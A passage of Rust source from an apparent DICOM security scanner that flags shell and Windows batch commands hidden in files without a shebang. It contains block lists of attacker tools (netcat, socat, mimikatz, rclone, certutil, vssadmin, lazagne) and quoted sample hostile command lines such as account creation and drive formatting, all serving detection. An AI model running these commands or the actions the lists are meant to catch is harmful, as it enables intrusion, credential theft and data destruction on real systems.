//! Shell and batch commands in a file that has no `#!`.
//!
//! `execve` refuses a file without a known header (ENOEXEC) and the calling shell then
//! runs it as a script itself; `sh file.dcm` does the same. Debian's `sh` (dash) drops NUL
//! bytes, prints "not found" for a line of binary garbage and goes on with the next line,
//! so a command on a line of its own in a text element runs — unless the bytes before it
//! break the parse: an unmatched `)`, a `;` with no command, an unterminated quote. Those
//! are checked here by a small lexer of the POSIX shell grammar that stops where dash
//! would stop (a syntax error ends a non-interactive shell), so that ordinary DICOM, whose
//! binary header usually breaks the parse, is not reported.
//!
//! A command counts only when the whole line it is on parses and its name is one an
//! attacker uses (a downloader, an interpreter, a path): words like `echo` or `cat` also
//! start clinical sentences ("echo shows...") and count only with shell syntax on the line.
//!
//! `cmd.exe` runs a `.bat` line by line and ignores lines it cannot run, so for batch a
//! line that starts with a program is enough: a Windows launcher or intruder's tool, or any
//! program named with an extension cmd.exe runs.

use std::ops::Range;

use pacsguard_events::{FindingKind, Severity, escape_bytes};

use crate::budget::Clock;
use crate::pairs::{self, Beside};
use crate::sh;

mod vim_buffer;
pub use vim_buffer::MAX_VIM_EXECUTE_NESTING;

/// Commands that do an attacker's work on their own: fetch, run code, open a shell.
const STRONG: [&[u8]; 49] = [
    b"poweroff",
    b"awk",
    b"gawk",
    b"mawk",
    b"nawk",
    b"tclsh",
    b"expect",
    b"pwsh",
    b"powershell",
    b"osascript",
    b"doas",
    b"curl",
    b"wget",
    b"bash",
    b"sh",
    b"dash",
    b"zsh",
    b"ksh",
    b"busybox",
    b"chmod",
    b"chown",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"lua",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"openssl",
    b"base64",
    b"xxd",
    b"mkfifo",
    b"eval",
    b"exec",
    b"nohup",
    b"setsid",
    b"sudo",
    b"crontab",
    b"tftp",
    b"rm",
    b"shred",
    b"java",
    b"systemctl",
    b"dd",
];

/// Commands that are also English or clinical words ("echo shows", "node positive",
/// "source images"): they count only when the line has shell syntax (a redirect, a pipe,
/// a substitution, an absolute path argument).
const WEAK: [&[u8]; 18] = [
    b"echo", b"printf", b"cat", b"touch", b"id", b"whoami", b"uname", b"ls", b"cp", b"mv", b"kill",
    b"tar", b"ssh", b"scp", b"export", b"cd", b"node", b"source",
];

/// Windows programs a batch line can start with (after an optional `@`): the launchers of
/// other interpreters, and the tools an intruder's or ransomware's batch file runs
/// (download, delete backups and shadow copies, clear logs, stop services, add accounts,
/// run a project or an installer; the living-off-the-land binaries of Windows). Review
/// s23: `vssadmin` alone of these was known, and a line of `bcdedit`, `wevtutil cl`,
/// `forfiles /c`, `curl -o` or `net user /add` was clean.
const BATCH_TOOLS: [(&[u8], Counts); 78] = [
    (b"wsl", Counts::Ambiguous),
    (b"powershell", Counts::Alone),
    (b"pwsh", Counts::Ambiguous),
    (b"cmd", Counts::Ambiguous),
    (b"certutil", Counts::Alone),
    (b"bitsadmin", Counts::Alone),
    (b"rundll32", Counts::Alone),
    (b"regsvr32", Counts::Alone),
    (b"mshta", Counts::Alone),
    (b"wscript", Counts::Alone),
    (b"cscript", Counts::Alone),
    (b"schtasks", Counts::Alone),
    (b"wmic", Counts::Ambiguous),
    (b"msiexec", Counts::Alone),
    (b"vssadmin", Counts::Alone),
    (b"start", Counts::Ambiguous),
    (b"echo off", Counts::Alone),
    (b"forfiles", Counts::Alone),
    (b"bcdedit", Counts::Alone),
    (b"wevtutil", Counts::Alone),
    (b"wbadmin", Counts::Alone),
    (b"msbuild", Counts::Alone),
    (b"cmstp", Counts::Alone),
    (b"taskkill", Counts::Alone),
    (b"installutil", Counts::Alone),
    (b"regasm", Counts::Alone),
    (b"regsvcs", Counts::Alone),
    (b"odbcconf", Counts::Alone),
    (b"pcalua", Counts::Alone),
    (b"esentutl", Counts::Alone),
    (b"diskshadow", Counts::Alone),
    (b"fsutil", Counts::Alone),
    (b"icacls", Counts::Alone),
    (b"takeown", Counts::Alone),
    (b"psexec", Counts::Alone),
    (b"curl", Counts::Ambiguous),
    (b"certreq", Counts::Alone),
    (b"msdt", Counts::Ambiguous),
    (b"netsh", Counts::Alone),
    (b"robocopy", Counts::Alone),
    (b"cipher", Counts::Ambiguous),
    (b"net", Counts::Ambiguous),
    (b"net1", Counts::Ambiguous),
    (b"reg", Counts::Ambiguous),
    (b"sc", Counts::Ambiguous),
    (b"tar", Counts::Ambiguous),
    (b"ftp", Counts::Ambiguous),
    (b"del", Counts::Ambiguous),
    (b"erase", Counts::Ambiguous),
    (b"rd", Counts::Ambiguous),
    (b"rmdir", Counts::Ambiguous),
    (b"explorer", Counts::Ambiguous),
    // Session 40 (review of session 39): living-off-the-land programs a line of one of
    // them ran unseen. Those also English or short are ambiguous (below).
    (b"shutdown", Counts::Argued),
    (b"format", Counts::Argued),
    (b"copy", Counts::Argued),
    (b"xcopy", Counts::Argued),
    (b"move", Counts::Argued),
    (b"ren", Counts::Argued),
    (b"rename", Counts::Argued),
    (b"expand", Counts::Argued),
    (b"extrac32", Counts::Alone),
    (b"tftp", Counts::Argued),
    (b"mofcomp", Counts::Alone),
    (b"regedit", Counts::Alone),
    (b"ftype", Counts::Argued),
    (b"assoc", Counts::Argued),
    (b"at", Counts::Argued),
    (b"runas", Counts::Alone),
    (b"conhost", Counts::Alone),
    (b"hh", Counts::Argued),
    (b"mklink", Counts::Alone),
    (b"attrib", Counts::Argued),
    (b"sdelete", Counts::Alone),
    (b"ntdsutil", Counts::Alone),
    (b"cmdkey", Counts::Alone),
    (b"winrm", Counts::Alone),
    (b"nltest", Counts::Alone),
    (b"bash", Counts::Argued),
];

/// How a tool of [`BATCH_TOOLS`] counts at a command's start: the one source of
/// [`BATCH`], [`AMBIGUOUS_BATCH`] and [`ARGUED_BATCH`] (session 41: the three lists
/// repeated the names by hand, held together by a test only).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Counts {
    /// By its name alone: no word of English, and too long for chance bytes to spell.
    Alone,
    /// Only with what reads as its argument ([`tool_argument`]): one of
    /// [`AMBIGUOUS_BATCH`].
    Ambiguous,
    /// Only with the arguments that make it dangerous ([`argues_danger`]): one of
    /// [`ARGUED_BATCH`], ambiguous too.
    Argued,
}

/// Whether a tool that counts as `counts` is one of those `of` names: all of them
/// (`None`), those of its name alone, the ambiguous ones (an argued tool is one whose
/// arguments are judged whole), or the argued ones.
const fn is_of(of: Option<Counts>, counts: Counts) -> bool {
    match of {
        None => true,
        Some(Counts::Alone) => matches!(counts, Counts::Alone),
        Some(Counts::Ambiguous) => !matches!(counts, Counts::Alone),
        Some(Counts::Argued) => matches!(counts, Counts::Argued),
    }
}

/// How many tools of [`BATCH_TOOLS`] are of `of` ([`is_of`]).
const fn batch_count(of: Option<Counts>) -> usize {
    let (mut i, mut n) = (0, 0);
    while i < BATCH_TOOLS.len() {
        if is_of(of, BATCH_TOOLS[i].1) {
            n += 1;
        }
        i += 1;
    }
    n
}

/// The names of the tools of [`BATCH_TOOLS`] that are of `of` ([`is_of`]), in its order;
/// `N` is [`batch_count`] of `of` (checked when compiled).
const fn batch_names<const N: usize>(of: Option<Counts>) -> [&'static [u8]; N] {
    let mut names: [&[u8]; N] = [b""; N];
    let (mut i, mut n) = (0, 0);
    while i < BATCH_TOOLS.len() {
        let (name, counts) = BATCH_TOOLS[i];
        if is_of(of, counts) {
            names[n] = name;
            n += 1;
        }
        i += 1;
    }
    assert!(n == N, "N is the count of the names taken");
    names
}

/// Every tool of [`BATCH_TOOLS`], whatever it asks for.
const BATCH: [&[u8]; BATCH_TOOLS.len()] = batch_names(None);

/// Programs of [`BATCH`] that are also words of clinical or technical English ("CMD
/// (common bile duct)", "Start of contrast injection", "net change", "SC injection", "TAR
/// syndrome", "cURL library", "Cipher commands"), or so short that compressed data holds
/// them (`WSL` and a tab in a gzip file; `pwsh`, `wmic` and `msdt` with a delimiter after
/// them are ~1.6e-7 a window of 64 KiB of compressed data each, issue 10): a line
/// starting with one counts only when what follows is its argument (see
/// [`tool_argument`]): a switch it takes ([`BATCH_SWITCHES`]), a subcommand
/// ([`BATCH_SUBCOMMANDS`]), a URL or a runnable name. Alone, `pwsh` and `wmic` start an
/// interactive prompt reading the console, as `cmd.exe` does: nothing of the file.
const AMBIGUOUS_BATCH: [&[u8]; batch_count(Some(Counts::Ambiguous))] =
    batch_names(Some(Counts::Ambiguous));

/// The tools of [`AMBIGUOUS_BATCH`] whose arguments [`argues_danger`] judges: words of
/// English (`format`, `copy`, `move`, `expand`, `at`, `shutdown`), or short enough that
/// chance bytes spell them (`ren`, `hh`, `tftp`, `bash`), that count only with the
/// arguments that make them dangerous, never with any switch of theirs.
const ARGUED_BATCH: [&[u8]; batch_count(Some(Counts::Argued))] = batch_names(Some(Counts::Argued));

/// The subcommands an ambiguous tool of [`AMBIGUOUS_BATCH`] runs with as its first word:
/// `net user x /add`, `reg add HKCU\...`, `sc stop MSSQLSERVER`.
const BATCH_SUBCOMMANDS: [(&[u8], &[&[u8]]); 5] = [
    (
        b"wmic",
        &[
            b"process",
            b"shadowcopy",
            b"path",
            b"class",
            b"service",
            b"os",
            b"useraccount",
            b"group",
            b"startup",
            b"product",
            b"qfe",
            b"share",
            b"nicconfig",
            b"computersystem",
            b"logicaldisk",
            b"ntdomain",
            b"bios",
            b"cpu",
            b"nteventlog",
            b"sysdriver",
            b"job",
        ],
    ),
    (
        b"net",
        &[
            b"user",
            b"localgroup",
            b"group",
            b"use",
            b"share",
            b"stop",
            b"start",
            b"view",
            b"accounts",
            b"session",
        ],
    ),
    (
        b"net1",
        &[
            b"user",
            b"localgroup",
            b"group",
            b"use",
            b"share",
            b"stop",
            b"start",
        ],
    ),
    (
        b"reg",
        &[
            b"add", b"delete", b"query", b"save", b"export", b"import", b"load", b"copy",
            b"restore",
        ],
    ),
    (
        b"sc",
        &[
            b"create", b"config", b"start", b"stop", b"delete", b"failure", b"query",
        ],
    ),
];

/// How a tool of [`BATCH_SWITCHES`] writes its switches.
#[derive(Clone, Copy, PartialEq, Eq)]
enum SwitchStyle {
    /// cmd.exe's own commands and Windows' tools: `/s`, `/S/Q`, `/w:c:\`, case ignored.
    Slash,
    /// The tools ported from Unix: `-x`, bundled `-xzf`, `-s:file`, `--long[=value]`,
    /// case kept (`-o` and `-O` are two switches).
    Dash,
    /// PowerShell's parameter binder: `-` or `/` (or an en dash, em dash or horizontal
    /// bar), then any prefix of a parameter's name or an alias, case ignored (`-c`,
    /// `-enc`, `/NoP`).
    Prefix,
}

/// A tool's name, how it writes its switches, and their names.
type ToolSwitches = (&'static [u8], SwitchStyle, &'static [&'static [u8]]);

/// The switches each ambiguous tool of [`AMBIGUOUS_BATCH`] takes, from its own help
/// (`cmd /?`, `rd /?`, `tar --help`, ...): with one as its first argument the tool's name
/// starts a command, not prose. Only these count (issue 10, review r30-falsepos: any `/X`
/// counted, so `\nRd /GNCth` in compressed pixel data was a command, a chance match
/// every ~10^5 windows of 64 KiB). A name ending with `:` takes a value glued to it
/// (`/w:c:\`, `-s:cmds.txt`); one ending with `*` takes the rest of its word (`/ccalc`:
/// cmd.exe runs what follows `/c` glued or not). Dash names of several letters are long
/// options (`--exec`). `net`, `net1`, `reg` and `sc` count by their subcommands only
/// ([`BATCH_SUBCOMMANDS`]).
const BATCH_SWITCHES: [ToolSwitches; 15] = [
    (
        b"pwsh",
        SwitchStyle::Prefix,
        &[
            b"file",
            b"command",
            b"commandwithargs",
            b"cwa",
            b"configurationname",
            b"custompipename",
            b"encodedcommand",
            b"ec",
            b"executionpolicy",
            b"ep",
            b"inputformat",
            b"interactive",
            b"login",
            b"mta",
            b"noexit",
            b"nologo",
            b"noninteractive",
            b"noprofile",
            b"noprofileloadtime",
            b"outputformat",
            b"settingsfile",
            b"sshservermode",
            b"sta",
            b"version",
            b"windowstyle",
            b"workingdirectory",
            b"wd",
            b"help",
        ],
    ),
    (
        b"wmic",
        SwitchStyle::Slash,
        &[
            b"node:",
            b"user:",
            b"password:",
            b"namespace:",
            b"role:",
            b"output:",
            b"append:",
            b"format:",
            b"interactive:",
            b"privileges:",
            b"failfast:",
            b"locale:",
            b"trace:",
            b"record:",
            b"implevel:",
            b"authlevel:",
            b"authority:",
            b"aggregate:",
        ],
    ),
    (
        b"msdt",
        SwitchStyle::Slash,
        &[
            b"id",
            b"path",
            b"cab",
            b"af",
            b"dci",
            b"ep",
            b"modal",
            b"moreoptions",
            b"param",
            b"skip",
        ],
    ),
    (
        b"cmd",
        SwitchStyle::Slash,
        &[
            b"c*", b"k*", b"r*", b"s", b"q", b"d", b"a", b"u", b"e:", b"f:", b"v:", b"t:",
        ],
    ),
    (
        b"start",
        SwitchStyle::Slash,
        &[
            b"b",
            b"i",
            b"d",
            b"min",
            b"max",
            b"wait",
            b"low",
            b"normal",
            b"high",
            b"realtime",
            b"abovenormal",
            b"belownormal",
            b"separate",
            b"shared",
            b"node",
            b"affinity",
        ],
    ),
    (b"del", SwitchStyle::Slash, &[b"p", b"f", b"s", b"q", b"a*"]),
    (
        b"erase",
        SwitchStyle::Slash,
        &[b"p", b"f", b"s", b"q", b"a*"],
    ),
    (b"rd", SwitchStyle::Slash, &[b"s", b"q"]),
    (b"rmdir", SwitchStyle::Slash, &[b"s", b"q"]),
    (
        b"cipher",
        SwitchStyle::Slash,
        &[
            b"w:",
            b"e",
            b"d",
            b"s:",
            b"c",
            b"k",
            b"r:",
            b"u",
            b"n",
            b"x",
            b"x:",
            b"h",
            b"a",
            b"i",
            b"f",
            b"q",
            b"y",
            b"b",
            b"rekey",
            b"flushcache",
            b"adduser",
            b"removeuser",
        ],
    ),
    (
        b"explorer",
        SwitchStyle::Slash,
        &[b"e", b"n", b"select", b"root", b"separate"],
    ),
    (
        b"tar",
        SwitchStyle::Dash,
        &[
            b"x",
            b"c",
            b"t",
            b"r",
            b"u",
            b"f",
            b"z",
            b"j",
            b"J",
            b"v",
            b"C",
            b"k",
            b"m",
            b"p",
            b"O",
            b"P",
            b"a",
            b"T",
            b"X",
            b"s",
            b"n",
            b"q",
            b"U",
            b"L",
            b"H",
            b"h",
            b"o",
            b"S",
            b"l",
            b"b",
            b"extract",
            b"create",
            b"list",
            b"file",
            b"directory",
            b"append",
            b"update",
            b"to-stdout",
            b"exclude",
            b"include",
            b"options",
        ],
    ),
    (
        b"curl",
        SwitchStyle::Dash,
        &[
            b"o",
            b"O",
            b"s",
            b"S",
            b"L",
            b"k",
            b"f",
            b"d",
            b"X",
            b"H",
            b"u",
            b"T",
            b"F",
            b"x",
            b"A",
            b"e",
            b"i",
            b"I",
            b"v",
            b"b",
            b"c",
            b"C",
            b"m",
            b"J",
            b"K",
            b"G",
            b"Z",
            b"output",
            b"remote-name",
            b"url",
            b"data",
            b"data-binary",
            b"upload-file",
            b"insecure",
            b"location",
            b"silent",
            b"request",
            b"header",
            b"user",
            b"proxy",
            b"form",
            b"config",
            b"output-dir",
            b"create-dirs",
        ],
    ),
    (
        b"wsl",
        SwitchStyle::Dash,
        &[
            b"e",
            b"d",
            b"u",
            b"l",
            b"s",
            b"t",
            b"exec",
            b"distribution",
            b"user",
            b"cd",
            b"shell-type",
            b"system",
            b"install",
            b"import",
            b"export",
            b"unregister",
            b"terminate",
            b"shutdown",
            b"mount",
            b"list",
            b"set-default",
        ],
    ),
    (
        b"ftp",
        SwitchStyle::Dash,
        &[
            b"v", b"n", b"i", b"d", b"g", b"s:", b"a", b"A", b"x:", b"r:", b"b:", b"w:",
        ],
    ),
];

/// Extensions of a program name that `cmd.exe` runs, itself or through the program the
/// extension is associated with by default (Windows Script Host, mshta, msiexec, the
/// shell): a line of a batch file that starts with `calc.exe`, `\\host\share\x.exe` or
/// `evil.vbs` runs it, whatever its name; `.msc` is in PATHEXT (an MMC console runs
/// what its snap-ins name; session 41: `evil.msc` was clean). `.chm`, `.url` and `.jar`
/// are not here: named alone on a line they are what a report's list of attachments
/// says (`protocol.jar`, `guide.chm`, `portal.url` under "Attachments:" alerted in review
/// rv42-screen), and cmd.exe runs them only if such a file lies in its current
/// directory; `start` opens them ([`OPENED_BY_START`]).
/// `.ps1` opens in Notepad by default and is left to the PowerShell launchers, `.reg` is
/// imported by regedit only after it asks; `.com` is read apart
/// ([`bare_com_name`]): a line starting with a domain name (`EGENIX.COM SOFTWARE ...` in
/// Python's library) is prose.
const RUNNABLE_EXTENSIONS: [&[u8]; 16] = [
    b".exe", b".bat", b".cmd", b".scr", b".pif", b".cpl", b".vbs", b".vbe", b".js", b".jse",
    b".wsf", b".wsh", b".hta", b".msi", b".lnk", b".msc",
];

/// Extensions `start` opens by association into something that runs code (ShellExecute:
/// HTML Help runs a `.chm`'s scripts, the shell follows a `.url`, to a share too, `javaw`
/// runs a `.jar` where Java is installed, as on many viewing stations). Not in
/// [`RUNNABLE_EXTENSIONS`]: alone on a line such a name is what a report's list of
/// attachments says (review rv42-screen).
const OPENED_BY_START: [&[u8]; 3] = [b".chm", b".url", b".jar"];

/// Tools of intruders no Windows holds and no launcher rule here names otherwise: a plain
/// word after `start` or `at`, or a bare `NAME.com`, counts only as one of these or of
/// the other vocabularies of tools ([`known_tool`]). Review rv41-screen (F1): any word
/// counted, so report lines (`Start heparin`, `At 2:00 PM`, `Radiology.com`) alerted.
const INTRUDER_TOOLS: [&[u8]; 16] = [
    b"mimikatz",
    b"rclone",
    b"plink",
    b"pscp",
    b"winrar",
    b"rar",
    b"7z",
    b"7za",
    b"procdump",
    b"adfind",
    b"ngrok",
    b"lazagne",
    b"rubeus",
    b"sharphound",
    b"nc",
    b"ncat",
];

/// Whether `word` (a plain name, with or without `.exe`/`.com`) is a tool PacsGuard
/// names: one of [`INTRUDER_TOOLS`], [`SYSTEM_PROGRAMS`], or a tool of [`BATCH`] that
/// counts alone (an ambiguous one is judged by its arguments elsewhere). Prose cannot
/// be told from a plain name otherwise: `Start scan`, `At 10:15 patient`.
fn known_tool(word: &[u8]) -> bool {
    let lower = word.to_ascii_lowercase();
    let name = without_program_extension(&lower);
    INTRUDER_TOOLS.contains(&name)
        || SYSTEM_PROGRAMS.contains(&name)
        || BATCH_TOOLS
            .iter()
            .any(|&(tool, counts)| tool == name && counts == Counts::Alone)
}

/// Whether `name`, a bare name of no tool known here, is one of a `.com` program and
/// nothing else: letters, digits, `-` and `_`, then the extension (`evil.com`). `.COM`
/// is first in PATHEXT, so such a name alone on its command runs the file (session 41:
/// it was clean); a domain of more parts (`www.example.com`) or followed by prose
/// (`EGENIX.COM SOFTWARE`) is text's. Of ASCII only: a name of chance bytes ending so
/// (`…\xf1p.COm&&`, built by expanding an unset `%…%` in a window of
/// `syntax_rich_windows_hold_no_chance_tool_or_block_command`) is none.
fn bare_com_name(name: &[u8]) -> bool {
    name.len() > 4
        && name[name.len() - 4..].eq_ignore_ascii_case(b".com")
        && name[..name.len() - 4]
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
}

/// Whether `after` (what follows a tool's name) starts with an extension the tool's
/// file has: `.exe`, or `.com` (`format.com`, `tree.com`, `mode.com` are the files of
/// System32; session 41: `format.com D: /q /y` was clean).
fn program_extension(after: &[u8]) -> bool {
    after
        .get(..4)
        .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe") || ext.eq_ignore_ascii_case(b".com"))
}

/// `name` (lower case) without its `.exe` or `.com` ([`program_extension`]).
fn without_program_extension(name: &[u8]) -> &[u8] {
    name.strip_suffix(b".exe")
        .or_else(|| name.strip_suffix(b".com"))
        .unwrap_or(name)
}

/// Whether `after` (what follows the name of `tool`, an ambiguous launcher of
/// [`AMBIGUOUS_BATCH`]) reads as its argument in a batch file rather than prose or
/// chance bytes: `.exe` and any argument, a switch the tool takes ([`BATCH_SWITCHES`]),
/// its subcommand ([`BATCH_SUBCOMMANDS`]), a program or URL (`evil.exe`, `http://…`), or
/// for `start` a quoted title (`start "" x`). A quote alone counted for every tool before
/// issue 10: `\nRD "` is three bytes of chance after a two-letter name.
fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> bool {
    if program_extension(after) && !ARGUED_BATCH.contains(&tool) {
        // `cmd.exe` with nothing after it to the command's end starts an interactive
        // shell reading the console, nothing of the file: JavaScript's
        // `process.env.comspec || "cmd.exe";` (cross-spawn, in playwright-core) is no
        // command line. A redirection (`cmd.exe < x`) or any argument is one.
        return after[4..]
            .iter()
            .take_while(|&&b| b != b'\r' && !is_command_end(b))
            .any(|&b| !is_token_delimiter(b))
            || (tool == b"cmd" && piped && reads_its_input(&after[4..], chance_bytes));
    }
    // The first argument cmd.exe hands over: a redirection before it is not one
    // (`start >nul evil.exe`).
    let line = without_carets(after);
    let token = leading_arguments(&line, chance_bytes)
        .next()
        .unwrap_or_default();
    if tool == b"cmd" {
        // cmd.exe runs a command only from what follows `/c`, `/k` or `/r` (glued or
        // not: `/ccalc`), from a file redirected to its input, or from a pipe; its
        // other switches alone start a prompt reading the console (session 40: any
        // switch counted, so `CMD /CBD dilated` in a report, which hands cmd.exe the
        // command `BD dilated`, alerted).
        return cmd_runs(&line, chance_bytes)
            || (piped && reads_its_input(after, chance_bytes))
            || names_program_or_url(token);
    }
    if tool == b"start" {
        // A quoted title or a switch of its own, then what `start` runs: judged as a
        // command (session 40: `start "contrast" at 10:32` runs `at 10:32`, which
        // schedules nothing, and `start /min 5` a program `5`).
        // Neither: what it runs is its first word, a program or a plain name cmd.exe
        // looks for along the PATH (`start mimikatz`; session 41: it was clean).
        // A name with an extension of PATHEXT (`start evil.msc`) is a program's: it was
        // counted as a plain name before the known-tool rule.
        return start_runs(&line, chance_bytes).unwrap_or_else(|| {
            names_program_or_url(token)
                || has_runnable_extension(token)
                || has_extension_of(token, &OPENED_BY_START)
                || hands_a_plain_name(&line, chance_bytes, NameRule::Known)
        });
    }
    if ARGUED_BATCH.contains(&tool) {
        // `format.com D: /q`: its arguments after the extension.
        let line = if program_extension(after) {
            without_carets(&after[4..])
        } else {
            line
        };
        return argues_danger(tool, &line, chance_bytes, piped);
    }
    takes_a_switch(tool, after, chance_bytes)
        || runs_subcommand(tool, after, chance_bytes)
        || names_program_or_url(token)
        || (tool == b"explorer" && names_remote_host(token))
}

/// The finding for a command whose program is a `for` loop's variable (`for /f %%a in
/// (\\host\s\list.txt) do %%a`): what it runs is what the loop's set yields, known
/// only when the file runs. Read from a share (a set naming a remote host) it runs
/// commands another host serves: an alert; from anything else a `not-inspected` warning
/// (review of session 41, item 1: both were clean). `before` is what cmd.exe read before
/// the program (`for … do `).
fn loop_variable_program(
    bytes: &[u8],
    offset: usize,
    before: &[u8],
    start: &[u8],
) -> Option<Command> {
    let keyword_for = starts_with_for(before);
    let name = start
        .strip_prefix(b"%%")
        .or_else(|| start.strip_prefix(b"%"))?;
    let variable = name.first().is_some_and(u8::is_ascii_alphabetic)
        && name.get(1).is_none_or(|&b| ends_word(b));
    if !keyword_for || !variable {
        return None;
    }
    let remote = before
        .split(|&b| is_token_delimiter(b) || matches!(b, b'(' | b')' | b'"' | b'\'' | b'`'))
        .any(names_remote_host);
    let excerpt = line_excerpt(bytes, offset);
    Some(if remote {
        Command {
            offset,
            interpreter: "batch",
            severity: Severity::Alert,
            kind: FindingKind::ActiveContent,
            detail: format!(
                "a Windows command line (\"{excerpt}\") whose program is a `for` loop's variable over what a share serves: cmd.exe runs the commands another host hands it"
            ),
        }
    } else {
        Command {
            offset,
            interpreter: "batch",
            severity: Severity::Warning,
            kind: FindingKind::NotInspected,
            detail: format!(
                "a Windows command line (\"{excerpt}\") whose program is a `for` loop's variable: what cmd.exe runs is what the loop's set yields when the file runs, not inspected"
            ),
        }
    })
}

/// Whether `before`, what cmd.exe read before a command's program, starts with the
/// keyword `for` (any form: `/f` with its options, `/r`, `/l`, `/d`, plain).
fn starts_with_for(before: &[u8]) -> bool {
    before
        .iter()
        .position(|b| !is_token_delimiter(*b) && !matches!(b, b'@' | b'(' | b'\r'))
        .and_then(|at| {
            let rest = &before[at..];
            keyword_len(rest, b"for").and_then(|len| rest.get(len))
        })
        .is_some_and(|&b| is_token_delimiter(b))
}

/// The letter of the loop variable a `for` in `before` declares (`%%i`, or `%i` as
/// typed at a prompt), if `before` starts with `for`.
fn loop_variable_letter(before: &[u8]) -> Option<u8> {
    if !starts_with_for(before) {
        return None;
    }
    // The first `%%X` or `%X` followed by a delimiter: options (`"tokens=1,2"`) hold no
    // `%`, and the variable comes before `in`.
    (0..before.len()).find_map(|at| {
        let rest = &before[at..];
        let name = rest
            .strip_prefix(b"%%")
            .or_else(|| rest.strip_prefix(b"%"))?;
        let letter = *name.first()?;
        (letter.is_ascii_alphabetic() && name.get(1).is_some_and(|&b| ends_word(b)))
            .then_some(letter)
    })
}

/// Whether `arguments` use the loop variable `letter` (`%%i`, `%i`, `%%~nxi`) or one
/// its `tokens=` option makes after it (`%%j`): a letter at or after it.
fn uses_loop_variable(arguments: &[u8], letter: u8) -> bool {
    arguments.iter().enumerate().any(|(at, &b)| {
        if b != b'%' {
            return false;
        }
        let rest = &arguments[at + 1..];
        let rest = rest.strip_prefix(b"%").unwrap_or(rest);
        // `~` and its modifiers (`~nx`, `~dp`) before the letter.
        let rest = match rest.strip_prefix(b"~") {
            Some(modified) => {
                let letters = modified
                    .iter()
                    .take_while(|b| b.is_ascii_alphabetic())
                    .count();
                &modified[letters.saturating_sub(1)..]
            }
            None => rest,
        };
        rest.first().is_some_and(|&used| {
            used.is_ascii_alphabetic()
                && used.is_ascii_lowercase() == letter.is_ascii_lowercase()
                && used >= letter
                && rest
                    .get(1)
                    .is_none_or(|&after| !after.is_ascii_alphanumeric())
        })
    })
}

/// The finding for a known tool of [`BATCH`] given a `for` loop's variable as an
/// argument (`for /f %%i in (list.txt) do shutdown %%i`) whose arguments as written
/// made no alert: what the tool is given is what the loop yields when the file runs, a
/// `not-inspected` warning (review of session 42, class 5: neither was said, though
/// the CHANGELOG promised it).
fn loop_variable_argument(
    bytes: &[u8],
    offset: usize,
    before: &[u8],
    start: &[u8],
) -> Option<Command> {
    let letter = loop_variable_letter(before)?;
    let name_end = start
        .iter()
        .position(|&b| ends_word(b) || b == b'/')
        .unwrap_or(start.len());
    let name: Vec<u8> = start[..name_end]
        .iter()
        .filter(|&&b| !matches!(b, b'"' | b'^'))
        .map(u8::to_ascii_lowercase)
        .collect();
    let file = &name[name
        .iter()
        .rposition(|&b| b == b'\\')
        .map_or(0, |at| at + 1)..];
    if !BATCH.contains(&without_program_extension(file)) {
        return None;
    }
    let arguments = &start[name_end..command_len(start).max(name_end)];
    uses_loop_variable(arguments, letter).then(|| Command {
        offset,
        interpreter: "batch",
        severity: Severity::Warning,
        kind: FindingKind::NotInspected,
        detail: format!(
            "a Windows command line (\"{}\") whose arguments hold a `for` loop's variable: what cmd.exe gives the tool is what the loop yields when the file runs, not inspected",
            line_excerpt(bytes, offset)
        ),
    })
}

/// Whether `start` (a command as cmd.exe reads it, from its program) is cmd.exe given a
/// switch that runs the rest of its line (`cmd /c`, `cmd.exe /k`, `"cmd" /c`).
fn cmd_line_runs_a_command(start: &[u8]) -> bool {
    let name_len = start
        .iter()
        .position(|&b| ends_word(b) || b == b'/')
        .unwrap_or(start.len());
    let name: Vec<u8> = start[..name_len]
        .iter()
        .filter(|&&b| b != b'"')
        .map(u8::to_ascii_lowercase)
        .collect();
    let file = &name[name
        .iter()
        .rposition(|&b| b == b'\\')
        .map_or(0, |at| at + 1)..];
    if without_program_extension(file) != b"cmd" {
        return false;
    }
    let names = BATCH_SWITCHES
        .iter()
        .find(|(name, _, _)| *name == b"cmd")
        .map_or(&[][..], |&(_, _, names)| names);
    let rest = &start[name_len..];
    leading_arguments(rest, false).any(|word| {
        let word = word.strip_prefix(b"\"").unwrap_or(word);
        word.first() == Some(&b'/')
            && word[1..]
                .split(|&b| b == b'/')
                .any(|part| slash_switch(names, part) == Some(true))
    })
}

/// Notes the line a `cmd /c` at `at` starts, to its line feed: each line is searched for
/// its end once (a line of `cmd /c&cmd /c&…` is read once, not from each).
fn note_launched_line(bytes: &[u8], at: usize, variables: &mut Variables) {
    if variables
        .launched
        .as_ref()
        .is_some_and(|line| line.start <= at && at < line.end)
    {
        return;
    }
    let rest = bytes.get(at..).unwrap_or_default();
    let end = at + memchr::memchr2(b'\n', CTRL_Z, rest).unwrap_or(rest.len());
    variables.launched = Some(at..end);
}

/// Whether `start`, a command after an operator on a line `cmd /c` runs (`cmd /c echo x
/// & calc`: review of session 41, item 3), is one cmd.exe runs to effect: as a launcher's
/// command is judged ([`runs_command`]), or a tool named here ([`known_tool`]).
fn launched_command(start: &[u8], chance_bytes: bool) -> bool {
    let end = start
        .iter()
        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
        .unwrap_or(start.len());
    runs_command(start, chance_bytes) || known_tool(&start[..end])
}

/// Whether cmd.exe, given `line` (its arguments as it reads them, carets dropped), runs
/// a command: the rest of the line after its first switch that takes it (`/c`, `/k`,
/// `/r` of [`BATCH_SWITCHES`], glued to it or not: `/ccalc`, `/c/x`) is a command
/// [`runs_command`] accepts, or its input is a file (`cmd < x.txt`).
fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
    let names = BATCH_SWITCHES
        .iter()
        .find(|(name, _, _)| *name == b"cmd")
        .map_or(&[][..], |&(_, _, names)| names);
    for span in leading_argument_spans(line, chance_bytes) {
        // A quoted switch is one (`"/c" calc`), as a program's quotes are removed.
        let quote = usize::from(line[span.start] == b'"');
        let word = &line[span.start + quote..span.end];
        if word.first() != Some(&b'/') {
            continue;
        }
        // `/q/c calc`: each part a switch; the first that takes the rest ends them.
        let mut from = span.start + quote + 1;
        for part in word[1..].split(|&b| b == b'/') {
